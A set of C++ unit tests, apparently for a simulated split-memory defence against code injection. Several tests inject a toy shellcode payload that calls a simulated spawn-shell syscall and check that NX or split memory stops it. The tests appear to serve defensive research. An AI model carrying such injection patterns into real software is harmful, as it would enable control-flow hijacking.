// shellcode into a code frame after the fact, which is the third way code
// bytes can change under a warm cache.
#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using core::ProtectionMode;
using core::ResponseMode;
using kernel::ExitKind;
using testing::start_guest;

// A guest that executes `site`, patches site's immediate byte from 11 to
// 22 through a data store, then executes `site` again and exits with r1.
// The exit code therefore reports which bytes the SECOND fetch decoded.
const char* kSelfPatch = R"(
_start:
  movi r3, 0
loop:
site:
  movi r1, 11
  addi r3, 1
  cmpi r3, 2
  jz done
  movi r4, site
  movi r5, 22
  storeb [r4+2], r5       ; patch the imm byte of `site`
  jmp loop
done:
  movi r0, SYS_EXIT
  syscall
)";

testing::GuestRun run_self_patch(ProtectionMode mode) {
  testing::GuestRun r;
  r.k = std::make_unique<kernel::Kernel>();
  r.k->set_engine(core::make_engine(mode));
  // Writable text segment so the store to `site` is legal: a mixed page.
  r.k->register_image(
      testing::build_guest_image(kSelfPatch, "guest", /*mixed_text=*/true));
  r.pid = r.k->spawn("guest");
  r.k->run(10'000'000);
  return r;
}

TEST(SmcCoherence, UnsplitPageSecondFetchSeesPatchedBytes) {
  auto r = run_self_patch(ProtectionMode::kNone);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  // Von Neumann semantics: the store hit the one-and-only frame, the first
  // execution's cached decode of `site` went stale, and the second fetch
  // re-decoded the patched bytes.
  EXPECT_EQ(r.proc().exit_code, 22u);
  EXPECT_GE(r.k->stats().decode_cache_invalidations, 1u);
}

TEST(SmcCoherence, SplitPageSecondFetchSeesOriginalBytes) {
  auto r = run_self_patch(ProtectionMode::kSplitAll);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  // Harvard guarantee: the store was routed to the data frame; the code
  // frame the decode cache is keyed on never changed, so serving the
  // cached decode of `site` is not just fast but CORRECT.
  EXPECT_EQ(r.proc().exit_code, 11u);
}

TEST(SmcCoherence, ForensicShellcodeInjectedAfterTheFactExecutes) {
  // Forensics mode rewrites a zero-filled code frame with the forensic
  // payload mid-run — after fetches already faulted on that frame. The
  // generation bump from that write must force re-decode so the payload
  // (exit(42)) actually executes rather than any stale decode.
  const char* body = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 256
)";
  auto r = start_guest(body, ProtectionMode::kSplitAll,
                       ResponseMode::kForensics);
  auto* engine = dynamic_cast<core::SplitMemoryEngine*>(&r.k->engine());
  ASSERT_NE(engine, nullptr);
  const auto program = assembler::assemble(guest::prelude() + R"(
_start:
  movi r0, SYS_EXIT
  movi r1, 42
  syscall
)");
  engine->set_forensic_shellcode(program.text);

  r.k->run(10'000'000);
  ASSERT_EQ(r.k->detections().size(), 1u);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_EQ(r.proc().exit_code, 42u);
}

}  // namespace
}  // namespace sm
