// Tests for the split-memory engine: the fault protocol (Algorithms 1-2),
// the security property (injected bytes never reach the fetch path), and
// the response modes (Algorithm 3).
#include "core/split_engine.h"

#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using core::ProtectionMode;
using core::ResponseMode;
using kernel::ExitKind;
using testing::run_guest;
using testing::start_guest;

// A self-injection victim: copies shellcode bytes into a bss buffer and
// jumps to it. On a von Neumann machine this spawns a shell; under split
// memory the fetch lands on the zero-filled code frame.
const char* kSelfInject = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5                 ; "hijacked control flow"
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
payload_end: .byte 0
.bss
buf: .space 256
)";

TEST(SplitEngine, InjectionSucceedsUnprotected) {
  auto r = run_guest(kSelfInject, ProtectionMode::kNone);
  EXPECT_TRUE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
}

TEST(SplitEngine, InjectionFoiledBySplitMemory) {
  auto r = run_guest(kSelfInject, ProtectionMode::kSplitAll);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kKilledSigill);
  ASSERT_EQ(r.k->detections().size(), 1u);
  const auto& ev = r.k->detections()[0];
  EXPECT_EQ(ev.mode, "break");
  // EIP points at the injected code's address in the bss buffer.
  EXPECT_EQ(ev.eip, testing::build_guest_image(kSelfInject).symbol("buf"));
  // The recorded shellcode is the attacker's payload (read from the DATA
  // frame): its first instruction is movi r0, SYS_SPAWN_SHELL.
  ASSERT_GE(ev.shellcode.size(), 6u);
  EXPECT_EQ(ev.shellcode[0], 0x01);
  EXPECT_EQ(ev.shellcode[2], kernel::kSysSpawnShell);
}

TEST(SplitEngine, InjectionFoiledByNx) {
  auto r = run_guest(kSelfInject, ProtectionMode::kHardwareNx);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kKilledSigsegv);
  ASSERT_EQ(r.k->detections().size(), 1u);
  EXPECT_EQ(r.k->detections()[0].mode, "nx");
}

TEST(SplitEngine, ItlbLoadUsesExactlyTwoTraps) {
  // A minimal program: N instructions on one code page, data elsewhere.
  const char* body = R"(
_start:
  movi r0, SYS_EXIT
  movi r1, 7
  syscall
)";
  auto r = run_guest(body, ProtectionMode::kSplitAll);
  EXPECT_EQ(r.proc().exit_code, 7u);
  const auto& s = r.k->stats();
  // One code page was I-TLB-loaded: one split I-load, one single-step.
  EXPECT_EQ(s.split_itlb_loads, 1u);
  EXPECT_EQ(s.single_steps, 1u);
}

TEST(SplitEngine, DtlbLoadPerDataPage) {
  const char* body = R"(
_start:
  movi r1, buf
  load r2, [r1]          ; page 1 of bss
  movi r1, buf2
  load r2, [r1]          ; page 2 of bss
  load r3, [r1+4]        ; same page: D-TLB hit, no new split load
  movi r0, SYS_EXIT
  syscall
.bss
buf:  .space 4096
buf2: .space 4096
)";
  auto r = run_guest(body, ProtectionMode::kSplitAll);
  const auto& s = r.k->stats();
  // Data pages split-loaded: 2 bss pages + stack page(s) touched at most
  // never (no stack use here) => exactly 2.
  EXPECT_EQ(s.split_dtlb_loads, 2u);
}

TEST(SplitEngine, MixedPageProtectedBySplitButNotByNx) {
  // Program PATCHES ITS OWN TEXT PAGE (writes shellcode into the padding
  // after the jump) and jumps to it: a mixed code+data page, the layout
  // the execute-disable bit cannot protect (paper Fig. 1b).
  const char* body = R"(
_start:
  movi r1, hole
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, hole
  jmpr r5
hole:
  .space 64
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
payload_end: .byte 0
)";
  // Build with a writable text segment (a "mixed page" program).
  auto make = [&](ProtectionMode mode) {
    testing::GuestRun r;
    r.k = std::make_unique<kernel::Kernel>();
    r.k->set_engine(core::make_engine(mode));
    r.k->register_image(
        testing::build_guest_image(body, "guest", /*mixed_text=*/true));
    r.pid = r.k->spawn("guest");
    r.k->run(10'000'000);
    return r;
  };

  // NX cannot protect the mixed page: the attack succeeds.
  auto nx = make(ProtectionMode::kHardwareNx);
  EXPECT_TRUE(nx.proc().shell_spawned);

  // Split memory: the write went to the data frame; the fetch sees the
  // ORIGINAL text bytes (zero padding in the hole -> #UD -> killed).
  auto split = make(ProtectionMode::kSplitAll);
  EXPECT_FALSE(split.proc().shell_spawned);
  EXPECT_EQ(split.proc().exit_kind, ExitKind::kKilledSigill);

  // Combined mode: the mixed page is split even though everything else
  // uses NX.
  auto combined = make(ProtectionMode::kNxPlusSplitMixed);
  EXPECT_FALSE(combined.proc().shell_spawned);
}

TEST(SplitEngine, ObserveModeLetsTheAttackContinue) {
  auto r = run_guest(kSelfInject, ProtectionMode::kSplitAll);
  ASSERT_EQ(r.proc().exit_kind, ExitKind::kKilledSigill);

  testing::GuestRun obs = start_guest(kSelfInject, ProtectionMode::kSplitAll,
                                      ResponseMode::kObserve);
  obs.k->run(10'000'000);
  // Detected AND the attack proceeded: shell spawned, clean exit.
  EXPECT_EQ(obs.k->detections().size(), 1u);
  EXPECT_TRUE(obs.proc().shell_spawned);
  EXPECT_EQ(obs.proc().exit_kind, ExitKind::kExited);
}

TEST(SplitEngine, ObserveModeLogsOnlyFirstExecutionPerPage) {
  // After observe locks the page onto the data frame, later executions on
  // that page run unhindered (paper §5.5).
  const char* body = R"(
_start:
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  callr r5               ; first injected run: detected, then continues
  movi r5, buf
  callr r5               ; second run: no further detection
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
  ret
payload_end: .byte 0
.bss
buf: .space 256
)";
  auto r = start_guest(body, ProtectionMode::kSplitAll,
                       ResponseMode::kObserve);
  r.k->run(10'000'000);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_EQ(r.k->detections().size(), 1u);
}

TEST(SplitEngine, ForensicsModeInjectsExitShellcode) {
  auto r = start_guest(kSelfInject, ProtectionMode::kSplitAll,
                       ResponseMode::kForensics);
  // The paper's §6.1.3 demo: forensic shellcode = exit(0).
  auto* engine = dynamic_cast<core::SplitMemoryEngine*>(&r.k->engine());
  ASSERT_NE(engine, nullptr);
  const auto program = assembler::assemble(guest::prelude() + R"(
_start:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
)");
  engine->set_forensic_shellcode(program.text);

  r.k->run(10'000'000);
  // Attack detected; shellcode dumped; process exited GRACEFULLY (no
  // segfault) because the forensic shellcode ran instead of the attack.
  ASSERT_EQ(r.k->detections().size(), 1u);
  EXPECT_FALSE(r.k->detections()[0].disassembly.empty());
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_EQ(r.proc().exit_code, 0u);
}

TEST(SplitEngine, RecoveryModeTransfersToRegisteredHandler) {
  const char* body = R"(
_start:
  movi r0, SYS_REGISTER_RECOVERY
  movi r1, recover
  syscall
  movi r1, buf
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  call memcpy
  movi r5, buf
  jmpr r5
recover:
  ; graceful cleanup path: exit(99)
  movi r0, SYS_EXIT
  movi r1, 99
  syscall
.data
payload:
  movi r0, SYS_SPAWN_SHELL
  syscall
payload_end: .byte 0
.bss
buf: .space 256
)";
  auto r = start_guest(body, ProtectionMode::kSplitAll,
                       ResponseMode::kRecovery);
  r.k->run(10'000'000);
  EXPECT_EQ(r.k->detections().size(), 1u);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_EQ(r.proc().exit_code, 99u);
}

TEST(SplitEngine, SplitPagesFreeBothFramesOnExit) {
  auto r = run_guest(kSelfInject, ProtectionMode::kSplitAll);
  EXPECT_EQ(r.k->phys().frames_in_use(), 0u);
}

TEST(SplitEngine, GenuineIllegalInstructionIsNotMisclassified) {
  // An invalid opcode inside the REAL text (not injected) must not be
  // reported as a code-injection attack: the code and data views agree at
  // EIP, so the engine passes it through as a plain SIGILL.
  const char* body = R"(
_start:
  .byte 0xFF
)";
  auto r = run_guest(body, ProtectionMode::kSplitAll);
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kKilledSigill);
  EXPECT_FALSE(r.proc().shell_spawned);
  EXPECT_TRUE(r.k->detections().empty());
}

}  // namespace
}  // namespace sm
