// Protocol-level tests of Algorithms 1 and 2: PTE/TLB state transitions,
// trap sequences, and the bookkeeping slot in the process table.
#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;

using arch::Pte;
using arch::vpn_of;
using core::ProtectionMode;

TEST(SplitProtocol, MaterializedPagesAreRestricted) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 1
  store [r4], r5
  jmp spin
spin:
  jmp spin
.bss
buf: .space 64
)";
  testing::GuestRun r = testing::start_guest(body, ProtectionMode::kSplitAll);
  r.k->run(2'000);
  const auto program = assembler::assemble(guest::program(body));
  kernel::Process& p = r.proc();

  // The touched data page: PTE restricted (supervisor), split bit set,
  // pointing at the DATA frame after the D-TLB load path ran.
  const u32 buf = program.symbol("buf");
  const Pte dpte = p.as->pt().get(buf);
  ASSERT_TRUE(dpte.present());
  EXPECT_TRUE(dpte.split());
  EXPECT_FALSE(dpte.user()) << "PTE must be re-restricted after the load";
  const auto* dpair = p.as->split_pair(vpn_of(buf));
  ASSERT_NE(dpair, nullptr);
  EXPECT_EQ(dpte.pfn(), dpair->data_frame);

  // The executing text page: restricted again after the debug interrupt,
  // pointing at the CODE frame.
  const u32 text = program.symbol("_start");
  const Pte ipte = p.as->pt().get(text);
  ASSERT_TRUE(ipte.present());
  EXPECT_TRUE(ipte.split());
  EXPECT_FALSE(ipte.user());
  const auto* ipair = p.as->split_pair(vpn_of(text));
  ASSERT_NE(ipair, nullptr);
  EXPECT_EQ(ipte.pfn(), ipair->code_frame);

  // Algorithm 2 has completed: no pending bookkeeping, TF clear.
  EXPECT_FALSE(p.pending_split_vaddr.has_value());
  EXPECT_FALSE(r.k->cpu().regs().tf());
}

TEST(SplitProtocol, CodeFramesCarryCodeDataFramesCarryData) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 0x55
  storeb [r4], r5
  jmp spin
spin:
  jmp spin
.bss
buf: .space 64
)";
  testing::GuestRun r = testing::start_guest(body, ProtectionMode::kSplitAll);
  r.k->run(2'000);
  const auto program = assembler::assemble(guest::program(body));
  kernel::Process& p = r.proc();

  const u32 buf = program.symbol("buf");
  const auto* dpair = p.as->split_pair(vpn_of(buf));
  ASSERT_NE(dpair, nullptr);
  // Data frame holds the written byte; the code frame stayed zero-filled.
  EXPECT_EQ(r.k->phys().frame_bytes(dpair->data_frame)[arch::page_offset(buf)],
            0x55);
  EXPECT_EQ(r.k->phys().frame_bytes(dpair->code_frame)[arch::page_offset(buf)],
            0x00);

  // Text page: BOTH frames carry the program bytes ("the original page is
  // copied into both of them", §5.1).
  const u32 text = program.symbol("_start");
  const auto* ipair = p.as->split_pair(vpn_of(text));
  ASSERT_NE(ipair, nullptr);
  const auto code = r.k->phys().frame_bytes(ipair->code_frame);
  const auto data = r.k->phys().frame_bytes(ipair->data_frame);
  EXPECT_TRUE(std::equal(code.begin(), code.end(), data.begin()));
  EXPECT_EQ(code[arch::page_offset(text)],
            static_cast<arch::u8>(arch::Op::kMovi));
}

TEST(SplitProtocol, TrapSequenceForOneColdInstructionAndData) {
  // One instruction on a cold split code page with a data access to a cold
  // split data page costs exactly:
  //   fetch fault -> (TF set) -> data fault during re-execution -> data
  //   load -> instruction completes -> debug trap.
  const char* body = R"(
_start:
  movi r4, buf
  load r5, [r4]
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 64
)";
  auto r = testing::run_guest(body, ProtectionMode::kSplitAll);
  const auto& s = r.k->stats();
  // 1 code page + 1 data page + 1 stack? (no stack use here) + demand
  // pages. Exactly one I-TLB load protocol (one single-step), and D-TLB
  // loads for buf (and none else).
  EXPECT_EQ(s.split_itlb_loads, 1u);
  EXPECT_EQ(s.single_steps, 1u);
  EXPECT_EQ(s.split_dtlb_loads, 1u);
  EXPECT_EQ(s.demand_pages, 2u);  // text page + buf page
}

TEST(SplitProtocol, DtlbPersistenceAvoidsRepeatFaults) {
  // 1000 reads of the same page: one split D-load, then pure TLB hits.
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 1000
loop:
  load r2, [r4]
  addi r5, -1
  cmpi r5, 0
  jnz loop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 64
)";
  auto r = testing::run_guest(body, ProtectionMode::kSplitAll);
  const auto& s = r.k->stats();
  EXPECT_EQ(s.split_dtlb_loads, 1u);
  EXPECT_GE(s.dtlb_hits, 999u);
}

TEST(SplitProtocol, TlbEvictionRefaults) {
  // Touch 100 distinct pages twice: the 64-entry D-TLB cannot hold them,
  // so the second pass faults again — the stand-alone mode's capacity-miss
  // cost the paper's gzip/unixbench numbers come from.
  const char* body = R"(
_start:
  movi r3, 2              ; passes
pass:
  movi r4, buf
  movi r5, 100
touch:
  load r2, [r4]
  addi r4, 4096
  addi r5, -1
  cmpi r5, 0
  jnz touch
  addi r3, -1
  cmpi r3, 0
  jnz pass
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 409600
)";
  auto r = testing::run_guest(body, ProtectionMode::kSplitAll);
  EXPECT_GT(r.k->stats().split_dtlb_loads, 130u);  // well beyond first touch
}

TEST(SplitProtocol, ContextSwitchFlushesAndRefaults) {
  // After a context switch both TLBs are flushed, so the same pages fault
  // again — "the greatest cause of overhead in the implemented system".
  const char* body = R"(
_start:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz child
  movi r5, 20
ploop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  addi r5, -1
  cmpi r5, 0
  jnz ploop
  mov r1, r0
  movi r0, SYS_WAITPID
  syscall
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
child:
  movi r5, 20
cloop:
  movi r0, SYS_YIELD
  syscall
  movi r4, buf
  load r2, [r4]
  addi r5, -1
  cmpi r5, 0
  jnz cloop
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 64
)";
  auto r = testing::run_guest_1core(body, ProtectionMode::kSplitAll);
  ASSERT_TRUE(r.k->all_exited());
  // Each of the ~40 switches refaults the code page at minimum.
  EXPECT_GT(r.k->stats().split_itlb_loads, 30u);
}

TEST(SplitProtocol, ObserveUnsplitReleasesOneFrame) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 0x90
  storeb [r4], r5         ; a NOP, so execution continues after observe
  storeb [r4+1], r5
  movi r2, payload
  movi r3, payload_end
  sub r3, r2
  mov r1, r4
  addi r1, 2
  call memcpy
  movi r5, buf
  jmpr r5
.data
payload:
  movi r0, SYS_EXIT
  movi r1, 55
  syscall
payload_end: .byte 0
.bss
buf: .space 64
)";
  testing::GuestRun r = testing::start_guest(
      body, ProtectionMode::kSplitAll, core::ResponseMode::kObserve);
  r.k->run(10'000'000);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_code, 55u);
  EXPECT_EQ(r.k->detections().size(), 1u);
  // All frames reclaimed despite the unsplit (no double free, no leak).
  EXPECT_EQ(r.k->phys().frames_in_use(), 0u);
}

TEST(SplitProtocol, MixedOnlyPolicySplitsNothingInPlainPrograms) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 1
  store [r4], r5
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
buf: .space 64
)";
  testing::GuestRun r;
  r.k = std::make_unique<kernel::Kernel>();
  r.k->set_engine(core::make_engine(ProtectionMode::kNxPlusSplitMixed));
  r.k->register_image(testing::build_guest_image(body));
  r.pid = r.k->spawn("guest");
  r.k->run(10'000'000);
  // No mixed pages -> no splits, no split faults: near-zero overhead, the
  // paper's combined-deployment argument.
  EXPECT_EQ(r.k->stats().split_itlb_loads, 0u);
  EXPECT_EQ(r.k->stats().split_dtlb_loads, 0u);
}

TEST(SplitProtocol, EngineNamesAreDescriptive) {
  EXPECT_EQ(core::make_engine(ProtectionMode::kNone)->name(), "none");
  EXPECT_EQ(core::make_engine(ProtectionMode::kHardwareNx)->name(),
            "hardware-nx");
  EXPECT_NE(core::make_engine(ProtectionMode::kSplitAll)->name().find("all"),
            std::string::npos);
  core::SplitMemoryEngine frac(core::SplitPolicy::fraction(35));
  EXPECT_NE(frac.name().find("35%"), std::string::npos);
}

}  // namespace
}  // namespace sm
