// Instructions straddling a page boundary: the corner where the paper's
// "faulting address == EIP" classification is insufficient on its own (the
// second page's fetch fault has CR2 != EIP) and the error-code
// instruction/data bit must be honoured. Also covers CPU-level straddling
// semantics.
#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;
using core::ProtectionMode;
using kernel::ExitKind;

TEST(Straddle, InstructionAcrossSplitPageBoundaryExecutes) {
  // Lay out text so `movi r1, 99` begins 3 bytes before the page boundary
  // (entry offset = 5 + 4088 = 4093; the movi spans 4093..4098): its
  // immediate lives on the second page. Both pages are split; the fetch of
  // the second half faults with CR2 != EIP but fetch=1, the case the
  // paper's bare "addr == EIP" test cannot classify.
  std::string src = "_start:\n  jmp entry\n  .space 4088, 0x90\nentry:\n";
  src += "  movi r1, 99\n  movi r0, SYS_EXIT\n  syscall\n";
  auto r = testing::run_guest(src, ProtectionMode::kSplitAll);
  ASSERT_TRUE(r.k->all_exited());
  EXPECT_EQ(r.proc().exit_kind, ExitKind::kExited);
  EXPECT_EQ(r.proc().exit_code, 99u);
  // Two text pages were I-TLB-loaded.
  EXPECT_GE(r.k->stats().split_itlb_loads, 2u);
}

TEST(Straddle, SameProgramIdenticalUnprotected) {
  std::string src = "_start:\n  jmp entry\n  .space 4088, 0x90\nentry:\n";
  src += "  movi r1, 99\n  movi r0, SYS_EXIT\n  syscall\n";
  auto r = testing::run_guest(src, ProtectionMode::kNone);
  EXPECT_EQ(r.proc().exit_code, 99u);
}

TEST(Straddle, DataWordAcrossSplitPagesReadsCorrectly) {
  const char* body = R"(
_start:
  movi r4, mark            ; 2 bytes before a bss page boundary
  movi r5, 0x11223344
  store [r4], r5
  load r1, [r4]
  movi r0, SYS_EXIT
  syscall
.bss
pad: .space 4094
mark: .space 8
)";
  auto r = testing::run_guest(body, ProtectionMode::kSplitAll);
  EXPECT_EQ(r.proc().exit_code, 0x11223344u);
  EXPECT_GE(r.k->stats().split_dtlb_loads, 2u);  // both bss pages loaded
}

TEST(Straddle, SoftwareTlbHandlesStraddlesToo) {
  std::string src = "_start:\n  jmp entry\n  .space 4088, 0x90\nentry:\n";
  src += "  movi r1, 99\n  movi r0, SYS_EXIT\n  syscall\n";
  kernel::KernelConfig cfg;
  cfg.software_tlb = true;
  auto r = testing::start_guest(src, ProtectionMode::kSplitAll,
                                core::ResponseMode::kBreak, cfg);
  r.k->run(10'000'000);
  EXPECT_EQ(r.proc().exit_code, 99u);
}

}  // namespace
}  // namespace sm
