// The generator's two load-bearing properties — determinism and
// assemblability — plus the body-structure helpers the shrinker leans on.
#include <gtest/gtest.h>

#include "asm/assembler.h"
#include "fuzz/generator.h"
#include "fuzz/rng.h"
#include "guest/guestlib.h"

namespace sm::fuzz {
namespace {

TEST(FuzzRng, SplitmixIsDeterministicAndSeedSensitive) {
  Rng a(42), b(42), c(43);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
  EXPECT_NE(Rng(42).next(), c.next());
}

TEST(FuzzRng, RangeStaysInclusive) {
  Rng r(7);
  for (int i = 0; i < 1000; ++i) {
    const u32 v = r.range(3, 9);
    EXPECT_GE(v, 3u);
    EXPECT_LE(v, 9u);
  }
}

TEST(FuzzRng, CaseSeedsAreIndexIndependent) {
  // case_seed must give each index its own stream regardless of order —
  // this is what makes --jobs replay-stable.
  EXPECT_EQ(case_seed(1, 5), case_seed(1, 5));
  EXPECT_NE(case_seed(1, 5), case_seed(1, 6));
  EXPECT_NE(case_seed(1, 5), case_seed(2, 5));
}

TEST(FuzzGenerator, PureFunctionOfSeed) {
  const FuzzCase a = generate(123456);
  const FuzzCase b = generate(123456);
  EXPECT_EQ(a.body, b.body);
  EXPECT_EQ(a.mixed_text, b.mixed_text);
  EXPECT_NE(generate(123457).body, a.body);
}

TEST(FuzzGenerator, FirstHundredSeedsAssemble) {
  for (u64 seed = 1; seed <= 100; ++seed) {
    const FuzzCase c = generate(seed);
    EXPECT_NO_THROW(assembler::assemble(guest::program(c.body)))
        << "seed " << seed;
  }
}

TEST(FuzzGenerator, BodiesAreActionStructured) {
  const FuzzCase c = generate(99);
  const SplitBody parts = split_actions(c.body);
  GenOptions defaults;
  EXPECT_GE(parts.actions.size(), defaults.min_actions);
  // +1: an optional lethal tail action may follow the main draw.
  EXPECT_LE(parts.actions.size(), defaults.max_actions + 1);
  EXPECT_NE(parts.prologue.find("_start"), std::string::npos);
  EXPECT_NE(parts.epilogue.find("SYS_EXIT"), std::string::npos);
}

TEST(FuzzGenerator, SplitJoinRoundTrips) {
  const FuzzCase c = generate(7);
  EXPECT_EQ(join_actions(split_actions(c.body)), c.body);
}

TEST(FuzzGenerator, JoinRenumbersMarkersDensely) {
  SplitBody parts = split_actions(generate(7).body);
  ASSERT_GE(parts.actions.size(), 3u);
  parts.actions.erase(parts.actions.begin() + 1);
  const std::string body = join_actions(parts);
  // Markers must be ;;A0, ;;A1, ... with no gaps, so a shrunk body is
  // itself a well-formed input to split_actions.
  const SplitBody again = split_actions(body);
  EXPECT_EQ(again.actions.size(), parts.actions.size());
  EXPECT_NE(body.find(";;A0\n"), std::string::npos);
  EXPECT_NE(body.find(";;A1\n"), std::string::npos);
}

TEST(FuzzGenerator, CountInstructionsIgnoresNonInstructions) {
  EXPECT_EQ(count_instructions("_start:\n"
                               "  movi r0, 1   ; comment\n"
                               "  ; pure comment\n"
                               "  .space 4\n"
                               "label:\n"
                               "label2: syscall\n"
                               "\n"),
            2u);
}

TEST(FuzzGenerator, StraddlePadsProduceBoundaryCrossingEntry) {
  // Some seed in the first batch must use the straddle prologue (40%
  // chance each); the pad places fz_entry so its 6-byte movi crosses the
  // first page boundary.
  bool found = false;
  for (u64 seed = 1; seed <= 30 && !found; ++seed) {
    const FuzzCase c = generate(seed);
    if (c.body.find("fz_entry") == std::string::npos) continue;
    const auto program = assembler::assemble(guest::program(c.body));
    const u32 entry = program.symbol("fz_entry");
    const u32 off = entry & 0xFFF;
    EXPECT_GT(off + 6, 4096u) << "seed " << seed;
    found = true;
  }
  EXPECT_TRUE(found);
}

TEST(FuzzGenerator, MixedTextGatesTextStores) {
  // fz_scratch stores may only appear in mixed-text cases — an NX
  // baseline must never be asked to tolerate a text write.
  for (u64 seed = 1; seed <= 60; ++seed) {
    const FuzzCase c = generate(seed);
    if (!c.mixed_text) {
      const SplitBody parts = split_actions(c.body);
      for (const std::string& a : parts.actions)
        EXPECT_EQ(a.find("movi r0, fz_scratch"), std::string::npos)
            << "seed " << seed;
    }
  }
}

}  // namespace
}  // namespace sm::fuzz
