// The differential oracle: equivalence passes on benign programs, and —
// just as important — genuinely divergent behaviour is *detected*.
#include <gtest/gtest.h>

#include "fuzz/corpus.h"
#include "fuzz/generator.h"
#include "fuzz/oracle.h"

namespace sm::fuzz {
namespace {

TEST(FuzzOracle, ReferenceRunIsObservable) {
  const FuzzCase c = generate(11);
  const RunObservation obs =
      run_case(c, behavioral_configs().front());
  EXPECT_EQ(obs.result, kernel::Kernel::RunResult::kAllExited);
  ASSERT_FALSE(obs.procs.empty());
  EXPECT_TRUE(obs.procs.front().digest.has_value());
  EXPECT_FALSE(obs.procs.front().syscalls.empty());  // at least SYS_EXIT
  EXPECT_GT(obs.instructions, 0u);
}

TEST(FuzzOracle, BenignSeedsPassTheFullContract) {
  for (u64 seed : {1, 2, 3, 4, 5}) {
    const OracleVerdict v = check_case(generate(seed));
    EXPECT_TRUE(v.ok) << "seed " << seed << ": " << v.divergence;
  }
}

TEST(FuzzOracle, DetectsRealSplitDivergence) {
  // Write-then-execute: stores an invalid opcode over a NOP pad, then
  // jumps into it. Von Neumann engines execute the freshly written #UD
  // byte and the process dies SIGILL; split engines fetch the untouched
  // code frame (NOPs), fall through to the exit, and leave 0 in r1. The
  // oracle must flag this — it is the paper's architectural difference,
  // visible exactly because the program is NOT benign.
  FuzzCase c;
  c.seed = 0;
  c.mixed_text = true;
  c.body = R"(_start:
;;A0
    movi r0, pad
    movi r1, 0
    storeb [r0+0], r1
    jmp pad
pad:
    nop
    nop
    nop
;;END
fz_exit:
    movi r1, 0
    movi r0, SYS_EXIT
    syscall
)";
  const OracleVerdict v = check_case(c);
  ASSERT_FALSE(v.ok);
  EXPECT_NE(v.divergence.find("vs none"), std::string::npos) << v.divergence;
}

TEST(FuzzOracle, InjectedLruBugBreaksBillingIdentity) {
  // The deliberate memo-LRU fault (Mmu::set_inject_memo_lru_bug) skips the
  // LRU re-stamp on data-memo hits. The D-TLB set-pressure action is built
  // so that exact stamp decides an eviction: with the bug, memo-on and
  // memo-off runs evict different entries and the simulated TLB counters
  // split. Find a seed whose program trips it, proving a billing bug in
  // the fast path cannot hide from the campaign.
  OracleOptions opts;
  opts.inject_lru_bug = true;
  opts.billing_only = true;
  bool caught = false;
  for (u64 seed = 1; seed <= 40 && !caught; ++seed) {
    const OracleVerdict v = check_case(generate(seed), opts);
    if (!v.ok) {
      caught = true;
      EXPECT_NE(v.divergence.find("no-memo"), std::string::npos)
          << v.divergence;
    }
  }
  EXPECT_TRUE(caught) << "no seed in 1..40 tripped the injected LRU bug";
}

TEST(FuzzOracle, CleanRunsPassWithBugInjectorDisarmed) {
  // Control for the test above: the same seeds with the injector off.
  OracleOptions opts;
  opts.billing_only = true;
  for (u64 seed : {1, 2, 3, 4, 5, 6, 7, 8}) {
    const OracleVerdict v = check_case(generate(seed), opts);
    EXPECT_TRUE(v.ok) << "seed " << seed << ": " << v.divergence;
  }
}

TEST(FuzzCorpus, FileRoundTripPreservesCase) {
  const FuzzCase c = generate(21);
  const FuzzCase back = from_corpus_file(to_corpus_file(c));
  EXPECT_EQ(back.seed, c.seed);
  EXPECT_EQ(back.mixed_text, c.mixed_text);
